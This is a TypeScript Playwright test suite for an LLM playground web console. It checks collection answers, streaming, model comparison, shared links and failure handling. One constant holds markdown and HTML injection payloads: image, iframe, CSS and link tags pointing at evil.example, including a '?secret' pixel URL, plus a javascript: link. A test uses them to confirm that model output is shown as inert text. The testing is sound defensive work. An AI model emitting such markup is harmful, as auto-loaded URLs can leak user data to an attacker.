import { describeWithBrowser, launchBrowser } from '@tragwerk/testkit/browser'
import { untilSettled } from '@tragwerk/testkit/builders'
import { type Stack, startStack } from '@tragwerk/testkit/stack'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createLine } from './cut-line.ts'
import { openConsole, phone } from './open-console.ts'
import { type PlayedProvider, type Player, startPlayedProvider } from './played-provider.ts'

const fact = 'The archive is opened on Tuesdays between nine and eleven.'
const question = 'When is the archive opened?'
const hostile = [
  '![pixel](https://evil.example/p.png?secret) ![r][x] <img src="https://evil.example/i.png">',
  '<svg><image href="https://evil.example/s.svg"/></svg><style>@import url(https://evil.example/c.css)</style>',
  '<link rel="prefetch" href="https://evil.example/f"><iframe src="https://evil.example/e"></iframe>',
  '[here](https://evil.example/path?q=1) https://evil.example/bare [bad](javascript:alert(1))',
  '![d](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x]: https://evil.example/r.png',
].join('\n\n')

const modelPath = '/playground?target=model:openai/played'

async function ask(page: Page, text: string, label = 'Your question') {
  await page.getByLabel(label, { exact: true }).fill(text)
  await page.getByLabel(label, { exact: true }).press('Enter')
}

describeWithBrowser('the playground', () => {
  let stack: Stack
  let browser: Browser
  let model: PlayedProvider

  beforeAll(async () => {
    model = await startPlayedProvider()
    stack = await startStack({ engine: 'pglite', env: model.env })
    browser = await launchBrowser()
    const params = { name: 'archive' }
    await stack.client.knowledge.createCollection({ body: params })
    const content = `# Rules\n\n${'Filler that stands before. '.repeat(200)}\n\n${fact} Food is not allowed inside.`
    const { id } = await stack.client.knowledge.addDocument({
      params,
      body: { title: 'Archive rules', content },
    })
    await untilSettled(stack.client, { ...params, id })
  })
  afterAll(async () => {
    await browser?.close()
    await stack?.stop()
    await model?.stop()
  })

  const open = (options: Partial<Parameters<typeof openConsole>[1]> = {}) =>
    openConsole(browser, { url: stack.url, apiKey: stack.adminKey, path: '/playground', ...options })

  test('answers from a collection and opens the source at the quoted place', async () => {
    await using console = await open()
    const { page } = console
    await console.expectAccessible()

    await ask(page, question)
    const answer = page.getByRole('article', { name: 'archive' })
    await answer.getByText('Answered', { exact: true }).waitFor()
    await answer.getByText('US$0.00').waitFor()
    await answer.getByText('Overhead').waitFor()
    expect(
      await page.getByLabel('Your question', { exact: true }).evaluate((it) => it === document.activeElement),
    ).toBe(true)
    expect(new URL(page.url()).searchParams.get('question')).toBe(question)
    await console.expectAccessible()

    await answer.getByRole('button', { name: 'Source 1: Archive rules', exact: true }).click()
    const panel = page.getByRole('complementary', { name: /Archive rules/ })
    await panel.locator('mark').waitFor()
    expect(await panel.locator('mark').innerText()).toBe(fact)
    expect(await panel.locator('mark').evaluate((it) => it.getBoundingClientRect().top < innerHeight)).toBe(
      true,
    )
    const link = await panel.getByRole('link', { name: 'Open the whole document' }).getAttribute('href')
    expect(link).toMatch(/\/knowledge\/archive\/documents\/[\w-]+\?start=\d+&end=\d+$/)
    await console.expectAccessible()

    await page.keyboard.press('Escape')
    await panel.waitFor({ state: 'detached' })
    await page.reload()
    await page.getByRole('article', { name: 'archive' }).getByText(fact).first().waitFor()
    expect(console.complaints).toEqual([])
  })

  test('says in words that nothing was found', async () => {
    await using console = await open()

    await ask(console.page, 'Who won the football match yesterday evening?')

    await console.page.getByText('Nothing found', { exact: true }).waitFor()
  })

  test('streams a model with its history, stops, and answers anew', async () => {
    await using console = await open({ path: modelPath })
    const { page } = console
    model.play(({ say, finish }) => {
      say('Hello **you**.')
      finish()
    })
    await ask(page, 'Greet me')
    await page.getByText('7 in, 3 out').waitFor()
    await page.getByText('no price is known').waitFor()

    model.play(({ say, messages }) => say(`I was told: ${messages.join(' / ')}`))
    await ask(page, 'And again')
    await page.getByText('I was told: Greet me / Hello you. / And again').waitFor()
    await page.getByLabel('Your question', { exact: true }).fill('typed meanwhile')
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped. The answer is not complete.').waitFor()

    model.play(({ say, finish }) => {
      say('Second try.')
      finish()
    })
    await page.getByRole('button', { name: 'Answer anew' }).last().click()
    await page.getByText('Second try.', { exact: true }).waitFor()
    expect(await page.getByLabel('Your question', { exact: true }).inputValue()).toBe('typed meanwhile')

    await page.getByRole('button', { name: 'Edit the question' }).first().click()
    await page.getByLabel('Question to be sent anew').fill('Greet me kindly')
    await page.reload()
    expect(await page.getByLabel('Question to be sent anew').inputValue()).toBe('Greet me kindly')
    await page.getByLabel('Question to be sent anew').press('Enter')
    await page.getByRole('heading', { name: 'Greet me kindly' }).waitFor()
    expect(await page.getByRole('log').getByRole('article').count()).toBe(1)
    expect(console.complaints).toEqual([])
  })

  test('shows hostile text as text: nothing is requested, and an address asks before it opens', async () => {
    await using console = await open({ path: modelPath })
    const { page } = console
    model.play(({ say, finish }) => {
      say(hostile)
      finish()
    })

    await ask(page, 'Show it')
    await page.getByText('[image: pixel]').waitFor()
    await page.getByText('7 in, 3 out').waitFor()

    const log = page.getByRole('log')
    const own = page.getByRole('link', { name: 'Explain this request' })
    expect(await own.getAttribute('href')).toMatch(/^\/requests\/[\w-]+$/)
    expect(await log.locator('a[href]').count()).toBe(1)
    expect(await log.locator('img, iframe, style, link, svg image, [style*="url"]').count()).toBe(0)
    expect(await log.getByText('<iframe src=', { exact: false }).count()).toBe(1)
    expect(await log.getByText('bad (javascript:alert(1))').count()).toBe(1)
    await console.expectAccessible()
    await log.getByRole('button', { name: /^here/ }).click()
    const dialog = page.getByRole('dialog', { name: 'This address leaves Tragwerk' })
    await dialog.getByText('https://evil.example/path?q=1').waitFor()
    await console.expectAccessible()
    await dialog.getByRole('button', { name: 'Stay here' }).click()
    expect(console.context.pages()).toHaveLength(1)
    expect(console.complaints).toEqual([])
  })

  test('keeps what came when the provider fails in the middle, and tries again', async () => {
    await using console = await open({ path: modelPath })
    const { page } = console
    model.play((player) => {
      player.say('It begins')
      player.break()
    })

    await ask(page, 'Break')
    await page.getByText('The model’s provider failed').waitFor()
    await page.getByText('Not complete', { exact: true }).waitFor()
    await page.getByText('gateway.stream_broken', { exact: true }).waitFor()
    await console.expectAccessible()

    model.play(({ say, finish }) => {
      say('Now it ends.')
      finish()
    })
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByText('Now it ends.', { exact: true }).waitFor()
    expect(console.complaints).toEqual([])
  })

  test('compares two side by side, and a link carries the conversation to another window', async () => {
    await using console = await open({ path: '/playground?target=collection:archive' })
    const { page, context } = console
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    model.play(({ say, finish }) => {
      say('A guess.')
      finish()
    })
    await page.getByRole('button', { name: 'Compare' }).click()
    await page.getByRole('button', { name: /^Beside it/ }).click()
    await page.getByPlaceholder('Find a collection or model …').fill('played')
    await page.getByRole('option', { name: /played/ }).click()
    await ask(page, question)
    await page.getByText('A guess.', { exact: true }).waitFor()
    await page.getByRole('article', { name: 'archive' }).getByText('Total').waitFor()
    await page.getByRole('article', { name: 'openai/played' }).getByText('Total').waitFor()

    await page.getByRole('button', { name: 'Copy a link to this conversation' }).click()
    await page.getByText('The link was copied.', { exact: false }).first().waitFor()
    const address = await page.evaluate(() => navigator.clipboard.readText())
    expect(address).toContain('/playground#c=')

    await page.getByRole('button', { name: 'Clear' }).click()
    await page.getByRole('button', { name: 'Undo' }).click()
    await page.getByText('A guess.', { exact: true }).waitFor()
    await using reader = await open()
    await reader.page.goto(address)
    await reader.page.getByText('Shared conversation').waitFor()
    await reader.page.getByText('A guess.', { exact: true }).waitFor()
    expect(await reader.page.getByLabel('Your question', { exact: true }).count()).toBe(0)
    await reader.expectAccessible()
    await reader.page.getByRole('button', { name: 'Continue from here' }).click()
    await reader.page.getByLabel('Your question', { exact: true }).waitFor()
    await reader.page.getByText('A guess.', { exact: true }).waitFor()

    await reader.page.goto(`${stack.url}/playground#c=damaged`)
    await reader.page.getByText('This link is damaged').waitFor()
    expect([...console.complaints, ...reader.complaints]).toEqual([])
  })

  test('compares two routes that stream at once, and leads to what explains each', async () => {
    await using console = await open({
      path: '/playground?target=model:support&other=model:openai%2Fplayed',
    })
    const { page } = console
    const answers: Player[] = []
    model.play((player) => {
      player.think(`Thoughts of ${player.model}.`)
      player.say(`Words of ${player.model}`)
      answers.push(player)
    })
    await page.getByRole('heading', { name: 'Compare support with openai/played' }).waitFor()
    await console.expectAccessible()

    await ask(page, 'Which is better?')
    const route = page.getByRole('article', { name: 'support' })
    const beside = page.getByRole('article', { name: 'openai/played' })
    await route.getByText('Words of priced').waitFor()
    await beside.getByText('Words of played').waitFor()
    await route.getByText('openai/priced', { exact: true }).waitFor()
    await console.expectAccessible()
    await beside.getByRole('button', { name: 'Stop openai/played' }).click()
    await beside.getByText('Stopped. The answer is not complete.').waitFor()
    expect(await route.getAttribute('aria-busy')).toBe('true')

    for (const answer of answers) answer.finish()
    await route.getByText('After 1 fallback').waitFor()
    await route.getByText('7 in, 3 out').waitFor()
    await route.getByText('US$0.000044').waitFor()
    await beside.getByText('no price is known').waitFor()
    expect(await route.getByText('Thoughts of priced.').isVisible()).toBe(false)
    await route.getByText('What the model thought').click()
    await route.getByText('Thoughts of priced.').waitFor()
    await console.expectAccessible()

    await route.getByRole('link', { name: 'Explain this request' }).click()
    await page.getByRole('heading', { name: /Request to support/ }).waitFor()
    await page.getByText('openai/failing failed, so openai/priced answered in its place.').waitFor()
    expect(console.complaints).toEqual([])
  })

  test('says what to do when no deployment may answer, and explains that too', async () => {
    await using console = await open({ path: '/playground?target=model:sealed' })
    const { page } = console

    await ask(page, 'Tell me')

    const answer = page.getByRole('article', { name: 'sealed' })
    await answer.getByText('No deployment may answer this').waitFor()
    await answer.getByText('gateway.no_candidate', { exact: true }).waitFor()
    await answer.getByRole('link', { name: 'Explain this request' }).click()
    await page.getByText('No provider was asked.').waitFor()
    console.expectComplaint(/422/)
    expect(console.complaints).toEqual([])
  })

  test('works in German on a phone, with the source over the answer', async () => {
    await using console = await open({ language: 'de', theme: 'dark', ...phone })
    const { page } = console

    await ask(page, question, 'Ihre Frage')
    await page.getByText('Beantwortet', { exact: true }).waitFor()
    await console.expectNoSidewaysScroll()
    await page.getByRole('button', { name: /^Quelle 1 Archive rules/ }).click()
    await page.getByRole('dialog', { name: 'Archive rules' }).locator('mark').waitFor()
    await console.expectAccessible()
    await console.expectNoSidewaysScroll()
    expect(console.complaints).toEqual([])
  })

  test('says when the server dies in the middle, keeps all text, and goes on when it is back', async () => {
    const line = await createLine(stack.url)
    await using console = await openConsole(browser, {
      url: line.url,
      apiKey: stack.adminKey,
      path: modelPath,
    })
    const { page } = console
    model.play(({ say }) => say('Half of it'))
    await ask(page, 'Go on')
    await page.getByText('Half of it', { exact: true }).waitFor()
    await page.getByLabel('Your question', { exact: true }).fill('the next one')

    line.cut()
    await page.getByText('The answer broke off').waitFor()
    await page.getByText('Half of it', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Waiting for the server …' }).waitFor()

    line.restore()
    model.play(({ say, finish }) => {
      say('All of it.')
      finish()
    })
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByText('All of it.', { exact: true }).waitFor()
    expect(await page.getByLabel('Your question', { exact: true }).inputValue()).toBe('the next one')
    await line.stop()
  })
})
